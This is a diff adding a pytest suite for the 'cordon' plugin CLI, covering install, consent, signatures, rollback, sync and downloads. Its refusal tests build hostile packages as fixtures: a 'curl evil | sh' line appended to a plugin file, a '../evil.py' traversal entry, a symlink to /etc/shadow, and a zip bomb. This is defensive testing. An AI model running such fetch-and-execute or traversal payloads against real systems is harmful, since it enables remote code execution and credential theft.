@@ -1,0 +1,506 @@
+"""The package commands through the real ``cordon`` CLI, real ``uv`` and wheelhouses the tests
+build: install from a folder and a ``.cordon`` file, consent, every refusal (exit code, one
+line naming what was wrong, nothing left under the state dir), update, rollback, uninstall,
+sync to another state dir, and downloads from a loopback HTTP server."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import pty
+import stat
+import subprocess
+import threading
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import anyio
+import pytest
+
+from cordon.runtime._hostapi._storage import Storage
+from cordon.runtime._packages._archive import FILES_NAME
+from cordon.runtime._packages._store import installed, previous
+from tests.packages.archives import (
+    RawEntry,
+    base_files,
+    files_listing,
+    raw_zip,
+    write_package,
+    zeros_bomb,
+)
+from tests.packages.archives import stored as stored_entry
+from tests.packages.installing import CLI_TIMEOUT, CORDON, Room, leftovers, make_room, plugin_folder
+from tests.packages.wheelhouse import sdist_marker
+
+
+@pytest.fixture
+def room(tmp_path: Path) -> Room:
+    return make_room(tmp_path)
+
+
+def one_line_error(proc: subprocess.CompletedProcess[str], code: int, *needles: str) -> str:
+    assert proc.returncode == code, (proc.returncode, proc.stdout, proc.stderr)
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1, proc.stderr
+    for needle in needles:
+        assert needle in lines[0], lines[0]
+    return lines[0]
+
+
+def assert_nothing_placed(room: Room) -> None:
+    assert leftovers(room.state) == []
+    staging = room.state / "plugins" / ".staging"
+    assert not staging.exists() or list(staging.iterdir()) == []
+
+
+def pack(room: Room, folder: Path, *extra: str) -> Path:
+    proc = room.cordon("plugin", "pack", str(folder), "-o", str(room.root / "dist"), *extra)
+    assert proc.returncode == 0, proc.stderr
+    return Path(proc.stdout.strip())
+
+
+# -- installing ------------------------------------------------------------------------------
+
+
+def test_installing_a_folder_places_the_version_its_env_and_a_record(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha", dependencies=("cordonhelper==1.0",))
+    proc = room.cordon("plugin", "install", str(folder), "--yes")
+    assert proc.returncode == 0, proc.stderr
+    assert "install alpha 1.0.0" in proc.stdout and "permissions  log" in proc.stdout
+    rec = installed(room.state, "alpha")
+    assert rec is not None and rec.version == "1.0.0" and rec.source == str(folder)
+    assert rec.requested == ("log",) and rec.signer is None and len(rec.sha256) == 64
+    assert Path(rec.plugin_dir) == (room.state / "plugins/alpha/1.0.0").resolve()
+    assert (Path(rec.plugin_dir) / "alpha_main.py").is_file()
+    # The lock's transitive pin is in the env: cordonhelper pulled cordonlib 2.0.
+    assert rec.site_packages is not None
+    site = Path(rec.site_packages)
+    assert (site / "cordonhelper.py").is_file() and 'VERSION = "2.0"' in (
+        site / "cordonlib.py"
+    ).read_text()
+    staging = room.state / "plugins" / ".staging"
+    assert list(staging.iterdir()) == []
+
+
+def test_installing_a_packed_file_records_its_sha256_and_path(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha", dependencies=("cordonlib==1.0",))
+    package = pack(room, folder)
+    assert (folder / "plugin.lock").is_file()  # pack locked first: dependencies, no lock
+    # The wheels are not in the package: the env comes from the index options (here the
+    # wheelhouse), checked against the package's lock.
+    proc = room.cordon("plugin", "install", str(package), "--yes")
+    assert proc.returncode == 0, proc.stderr
+    rec = installed(room.state, "alpha")
+    assert rec is not None and rec.source == str(package)
+    import hashlib
+
+    assert rec.sha256 == hashlib.sha256(package.read_bytes()).hexdigest()
+
+
+def test_no_plugin_code_runs_during_install(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha")
+    marker = room.root / "imported"
+    main = folder / "alpha_main.py"
+    main.write_text(f"open({str(marker)!r}, 'w').close()\n" + main.read_text())
+    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
+    assert installed(room.state, "alpha") is not None
+    assert not marker.exists()
+
+
+def test_without_a_terminal_or_yes_install_is_refused_and_places_nothing(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha", permissions=("log", "storage"))
+    proc = room.cordon("plugin", "install", str(folder))
+    one_line_error(proc, 27, "ConsentRefused", "log, storage", "--yes")
+    assert_nothing_placed(room)
+
+
+def _install_on_a_terminal(room: Room, folder: Path, answer: bytes) -> tuple[int, str]:
+    master, slave = pty.openpty()
+    try:
+        proc = subprocess.Popen(
+            [CORDON, "plugin", "install", str(folder), "--config", str(room.config)],
+            stdin=slave,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            cwd=room.root,
+        )
+        os.write(master, answer)
+        out, err = proc.communicate(timeout=CLI_TIMEOUT)
+    finally:
+        os.close(master)
+        os.close(slave)
+    return proc.returncode, out.decode() + err.decode()
+
+
+def test_on_a_terminal_install_asks_and_only_a_typed_yes_installs(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha", permissions=("log", "storage"))
+    code, out = _install_on_a_terminal(room, folder, b"n\n")
+    assert code == 27 and "requests log, storage. Install? [y/N]" in out, out
+    assert_nothing_placed(room)
+    code, out = _install_on_a_terminal(room, folder, b"y\n")
+    assert code == 0, out
+    assert installed(room.state, "alpha") is not None
+
+
+# -- refusals: each one exit code, one line, nothing left -------------------------------------
+
+
+def _tampered(path: Path) -> Path:
+    files = base_files()
+    listing = files_listing(files)
+    files["greeter.py"] += b"import os; os.system('curl evil | sh')\n"
+    return write_package(path, files, listing=listing)
+
+
+def _dotdot(path: Path) -> Path:
+    return write_package(path, base_files() | {"../evil.py": b"x = 1\n"})
+
+
+def _symlink(path: Path) -> Path:
+    files = base_files()
+    info = zipfile.ZipInfo("data/link", (1980, 1, 1, 0, 0, 0))
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return write_package(path, files, extra=[(info, b"/etc/shadow")])
+
+
+def _bomb(path: Path) -> Path:
+    bomb, crc = zeros_bomb(1024)
+    entries = [stored_entry(n.encode(), d) for n, d in sorted(base_files().items())]
+    entries.append(RawEntry(b"zeros.bin", bomb, crc, 1024, method=zipfile.ZIP_DEFLATED))
+    body = json.loads(files_listing(base_files()))
+    body.append({"mode": 0o644, "path": "zeros.bin", "sha256": "0" * 64, "size": 1024})
+    entries.append(stored_entry(FILES_NAME.encode(), json.dumps(body).encode()))
+    return raw_zip(path, entries)
+
+
+@pytest.mark.parametrize(
+    ("build", "needle"),
+    [
+        (_tampered, "'greeter.py'"),
+        (_dotdot, "'../evil.py'"),
+        (_symlink, "'data/link'"),
+        (_bomb, "'zeros.bin'"),
+    ],
+    ids=["hash-mismatch", "dotdot-entry", "symlink-entry", "zip-bomb"],
+)
+def test_a_hostile_package_is_refused_naming_its_entry_and_nothing_is_left(
+    room: Room, build: object, needle: str
+) -> None:
+    package = build(room.root / "greeter-1.2.0.cordon")  # type: ignore[operator]
+    proc = room.cordon("plugin", "install", str(package), "--yes", index=False)
+    one_line_error(proc, 22, "PackageInvalid", needle)
+    assert_nothing_placed(room)
+
+
+def _keyed(room: Room, name: str) -> tuple[Path, str]:
+    proc = room.cordon("key", "new", str(room.root / name), index=False)
+    assert proc.returncode == 0, proc.stderr
+    return room.root / name, proc.stdout.splitlines()[0]
+
+
+def test_an_unsigned_package_is_refused_when_signatures_are_required(room: Room) -> None:
+    _, public = _keyed(room, "pub.key")
+    strict = room.config_with("strict.toml", **{
+        "require-signatures": "true", "trusted-keys": f'["{public}"]'
+    })  # fmt: skip
+    package = pack(room, plugin_folder(room.root, "alpha"))
+    proc = room.cordon("plugin", "install", str(package), "--yes", config=strict, index=False)
+    one_line_error(proc, 23, "SignatureInvalid", "not signed", "require-signatures")
+    assert_nothing_placed(room)
+
+
+def test_a_package_signed_by_an_untrusted_key_is_refused_naming_that_key(room: Room) -> None:
+    _, trusted = _keyed(room, "trusted.key")
+    other, other_public = _keyed(room, "other.key")
+    strict = room.config_with("strict.toml", **{
+        "require-signatures": "true", "trusted-keys": f'["{trusted}"]'
+    })  # fmt: skip
+    package = pack(room, plugin_folder(room.root, "alpha"), "--sign", str(other))
+    proc = room.cordon("plugin", "install", str(package), "--yes", config=strict, index=False)
+    one_line_error(proc, 23, "SignatureInvalid", other_public, "trusted-keys")
+    assert_nothing_placed(room)
+    # Control: the same package signed by the trusted key installs.
+    signed = pack(room, plugin_folder(room.root, "beta"), "--sign", str(room.root / "trusted.key"))
+    proc = room.cordon("plugin", "install", str(signed), "--yes", config=strict, index=False)
+    assert proc.returncode == 0, proc.stderr
+    rec = installed(room.state, "beta")
+    assert rec is not None and rec.signer == trusted
+
+
+def test_a_dependency_with_only_an_sdist_is_refused_naming_it_and_never_built(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha", dependencies=("cordonsrc",))
+    proc = room.cordon("plugin", "install", str(folder), "--yes")
+    one_line_error(proc, 24, "SdistOnly", "cordonsrc")
+    assert_nothing_placed(room)
+    assert not sdist_marker(room.wheelhouse, "cordonsrc").exists()
+    assert not (folder / "plugin.lock").exists()
+
+
+# -- update, rollback, uninstall ---------------------------------------------------------------
+
+
+def test_an_update_with_a_new_permission_asks_again_and_keeps_the_old_for_rollback(
+    room: Room,
+) -> None:
+    v1 = plugin_folder(room.root, "alpha", "1.0.0", dependencies=("cordonlib==1.0",))
+    assert room.cordon("plugin", "install", str(v1), "--yes").returncode == 0
+    v2 = plugin_folder(
+        room.root, "alpha", "2.0.0", dependencies=("cordonlib==2.0",), permissions=("storage",)
+    )
+    proc = room.cordon("plugin", "update", "alpha", str(v2))
+    one_line_error(proc, 27, "ConsentRefused", "storage")
+    assert "update alpha 1.0.0 -> 2.0.0 (breaking)" in proc.stdout
+    assert "+ permission storage (new)" in proc.stdout
+    assert "- permission log (dropped)" in proc.stdout
+    cur = installed(room.state, "alpha")
+    assert cur is not None and cur.version == "1.0.0" and cur.env_key is not None
+    first_env = room.state / "envs" / cur.env_key
+    assert not [p for p in leftovers(room.state) if "2.0.0" in p]
+    assert [p.name for p in (room.state / "envs").iterdir() if not p.name.endswith("lock")] == [
+        cur.env_key
+    ]
+
+    proc = room.cordon("plugin", "update", "alpha", str(v2), "--yes")
+    assert proc.returncode == 0, proc.stderr
+    cur, prev = installed(room.state, "alpha"), previous(room.state, "alpha")
+    assert cur is not None and cur.version == "2.0.0" and cur.requested == ("storage",)
+    assert prev is not None and prev.version == "1.0.0"
+    assert cur.env_key != prev.env_key
+    assert prev.env_key is not None and (room.state / "envs" / prev.env_key).is_dir()
+
+    # A compatible update adding nothing does not ask.
+    v21 = plugin_folder(
+        room.root, "alpha", "2.1.0", dependencies=("cordonlib==2.0",), permissions=("storage",)
+    )
+    proc = room.cordon("plugin", "update", "alpha", str(v21))
+    assert proc.returncode == 0, proc.stderr
+    assert "(compatible)" in proc.stdout and "permissions  unchanged" in proc.stdout
+    prev = previous(room.state, "alpha")
+    assert prev is not None and prev.version == "2.0.0"
+    # 1.0.0 is neither current nor previous now: its dir and its env are gone.
+    assert not (room.state / "plugins/alpha/1.0.0").exists()
+    assert not first_env.exists()
+
+
+def test_rollback_returns_to_the_previous_version_and_a_second_rollback_undoes_it(
+    room: Room,
+) -> None:
+    for version in ("1.0.0", "1.1.0"):
+        folder = plugin_folder(room.root, "alpha", version)
+        assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
+    proc = room.cordon("plugin", "rollback", "alpha", index=False)
+    assert proc.returncode == 0 and "rolled back alpha to 1.0.0" in proc.stdout, proc.stderr
+    cur, prev = installed(room.state, "alpha"), previous(room.state, "alpha")
+    assert cur is not None and cur.version == "1.0.0"
+    assert prev is not None and prev.version == "1.1.0"
+    assert room.cordon("plugin", "rollback", "alpha", index=False).returncode == 0
+    cur = installed(room.state, "alpha")
+    assert cur is not None and cur.version == "1.1.0"
+
+
+def test_rollback_with_nothing_to_return_to_is_refused(room: Room) -> None:
+    assert room.cordon("plugin", "install", str(plugin_folder(room.root, "alpha")), "--yes")
+    proc = room.cordon("plugin", "rollback", "alpha", index=False)
+    one_line_error(proc, 26, "NotInstalled", "no previous version")
+    proc = room.cordon("plugin", "rollback", "ghost", index=False)
+    one_line_error(proc, 26, "NotInstalled", "ghost")
+
+
+def _store(room: Room, plugin_id: str, key: str) -> None:
+    async def go() -> None:
+        async with await Storage.open(room.state / "storage.db") as storage:
+            await storage.set(plugin_id, key, "kept")
+
+    anyio.run(go)
+
+
+def _stored(room: Room, plugin_id: str) -> list[str]:
+    async def go() -> list[str]:
+        async with await Storage.open(room.state / "storage.db") as storage:
+            return list(await storage.list(plugin_id))
+
+    return anyio.run(go)
+
+
+def test_uninstall_removes_the_plugin_and_an_env_only_it_used(room: Room) -> None:
+    deps = ("cordonlib==1.0",)
+    for pid in ("alpha", "beta"):
+        folder = plugin_folder(room.root, pid, dependencies=deps)
+        assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
+    alpha, beta = installed(room.state, "alpha"), installed(room.state, "beta")
+    assert alpha is not None and beta is not None and alpha.env_key == beta.env_key
+    _store(room, "alpha", "k")
+    proc = room.cordon("plugin", "uninstall", "alpha", "--yes", index=False)
+    assert proc.returncode == 0, proc.stderr
+    assert installed(room.state, "alpha") is None
+    assert not (room.state / "plugins" / "alpha").exists()
+    assert (room.state / "envs" / str(beta.env_key)).is_dir()  # beta still uses it
+    assert _stored(room, "alpha") == ["k"]  # storage kept without --purge
+
+    proc = room.cordon("plugin", "uninstall", "beta", index=False)
+    one_line_error(proc, 27, "ConsentRefused", "--yes")
+    assert installed(room.state, "beta") is not None
+    _store(room, "beta", "k")
+    proc = room.cordon("plugin", "uninstall", "beta", "--purge", "--yes", index=False)
+    assert proc.returncode == 0 and "storage purged" in proc.stdout, proc.stderr
+    assert _stored(room, "beta") == [] and _stored(room, "alpha") == ["k"]
+    assert leftovers(room.state) == []
+    proc = room.cordon("plugin", "uninstall", "beta", "--yes", index=False)
+    one_line_error(proc, 26, "NotInstalled", "beta")
+
+
+# -- sync -------------------------------------------------------------------------------------
+
+
+def test_sync_reproduces_the_installed_plugins_in_another_state_dir(room: Room) -> None:
+    package = pack(room, plugin_folder(room.root, "alpha", dependencies=("cordonlib==1.0",)))
+    assert room.cordon("plugin", "install", str(package), "--yes").returncode == 0
+    folder = plugin_folder(room.root, "beta", dependencies=("cordonlib==2.0",))
+    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
+    lockfile = room.root / "plugins.lock"
+    proc = room.cordon("plugin", "sync", "--write", str(lockfile), index=False)
+    assert proc.returncode == 0, proc.stderr
+    pinned = json.loads(lockfile.read_text())
+    assert [p["id"] for p in pinned["plugins"]] == ["alpha", "beta"]
+
+    other_state = room.root / "other-state"
+    other = room.config_with("other.toml", state=other_state)
+    proc = room.cordon("plugin", "sync", str(lockfile), "--yes", config=other)
+    assert proc.returncode == 0, proc.stderr
+    for pid in ("alpha", "beta"):
+        here, there = installed(room.state, pid), installed(other_state, pid)
+        assert here is not None and there is not None
+        assert (there.version, there.sha256, there.env_key) == (
+            here.version,
+            here.sha256,
+            here.env_key,
+        )
+    # Applying it again changes nothing.
+    proc = room.cordon("plugin", "sync", str(lockfile), config=other)
+    assert proc.returncode == 0, proc.stderr
+
+
+def test_sync_refuses_a_source_that_no_longer_has_the_pinned_bytes(room: Room) -> None:
+    folder = plugin_folder(room.root, "alpha")
+    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
+    lockfile = room.root / "plugins.lock"
+    assert room.cordon("plugin", "sync", "--write", str(lockfile), index=False).returncode == 0
+    (folder / "alpha_main.py").write_text("plugin = None  # swapped\n")
+    other_state = room.root / "other-state"
+    other = room.config_with("other.toml", state=other_state)
+    proc = room.cordon("plugin", "sync", str(lockfile), "--yes", config=other)
+    one_line_error(proc, 22, "PackageInvalid", "the sync file pins")
+    assert leftovers(other_state) == []
+
+
+# -- downloads ----------------------------------------------------------------------------------
+
+
+class _Server:
+    def __init__(self, root: Path, headers: dict[str, str] | None = None) -> None:
+        extra = headers or {}
+
+        class Handler(http.server.SimpleHTTPRequestHandler):
+            def __init__(self, *a: object, **kw: object) -> None:
+                super().__init__(*a, directory=str(root), **kw)  # type: ignore[arg-type]
+
+            def end_headers(self) -> None:
+                for k, v in extra.items():
+                    self.send_header(k, v)
+                super().end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.httpd.server_address[1]
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+
+    def __enter__(self) -> _Server:
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+        self.thread.join(timeout=10)
+
+
+@pytest.fixture
+def served(room: Room) -> Iterator[tuple[_Server, Path]]:
+    package = pack(room, plugin_folder(room.root, "alpha", dependencies=("cordonlib==1.0",)))
+    with _Server(package.parent) as server:
+        yield server, package
+
+
+def test_a_package_downloads_from_a_loopback_server_when_explicitly_allowed(
+    room: Room, served: tuple[_Server, Path]
+) -> None:
+    server, package = served
+    url = f"http://127.0.0.1:{server.port}/{package.name}"
+    proc = room.cordon("plugin", "install", url, "--yes", "--allow-insecure-localhost")
+    assert proc.returncode == 0, proc.stderr
+    rec = installed(room.state, "alpha")
+    assert rec is not None and rec.source == url
+    assert list((room.state / "plugins" / ".staging").iterdir()) == []
+
+
+def test_a_plain_http_url_is_refused_without_the_explicit_flag(
+    room: Room, served: tuple[_Server, Path]
+) -> None:
+    server, package = served
+    for url in (
+        f"http://127.0.0.1:{server.port}/{package.name}",
+        f"http://localhost:{server.port}/{package.name}",
+        f"ftp://127.0.0.1:{server.port}/{package.name}",
+    ):
+        proc = room.cordon("plugin", "install", url, "--yes")
+        one_line_error(proc, 22, "PackageInvalid", "only https://")
+    # The flag admits 127.0.0.1 only, never another http host.
+    url = f"http://localhost:{server.port}/{package.name}"
+    proc = room.cordon("plugin", "install", url, "--yes", "--allow-insecure-localhost")
+    one_line_error(proc, 22, "PackageInvalid", "only https://")
+    assert_nothing_placed(room)
+
+
+class _Huge(http.server.BaseHTTPRequestHandler):
+    """Claims a terabyte, sends a few bytes, then holds the connection open."""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Length", str(10**12))
+        self.end_headers()
+        self.wfile.write(b"PK")
+        self.wfile.flush()
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_a_download_announcing_more_than_the_cap_is_refused_before_it_is_read(
+    room: Room,
+) -> None:
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Huge)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        url = f"http://127.0.0.1:{httpd.server_address[1]}/big.cordon"
+        proc = room.cordon("plugin", "install", url, "--yes", "--allow-insecure-localhost")
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+        thread.join(timeout=10)
+    one_line_error(proc, 22, "PackageInvalid", "larger than", str(10**12))
+    assert_nothing_placed(room)
+
+
+def test_a_missing_download_is_refused_naming_the_http_error(
+    room: Room, served: tuple[_Server, Path]
+) -> None:
+    server, package = served
+    url = f"http://127.0.0.1:{server.port}/{package.name}-missing"
+    proc = room.cordon("plugin", "install", url, "--yes", "--allow-insecure-localhost")
+    one_line_error(proc, 22, "PackageInvalid", "download failed", "404")
+    assert_nothing_placed(room)
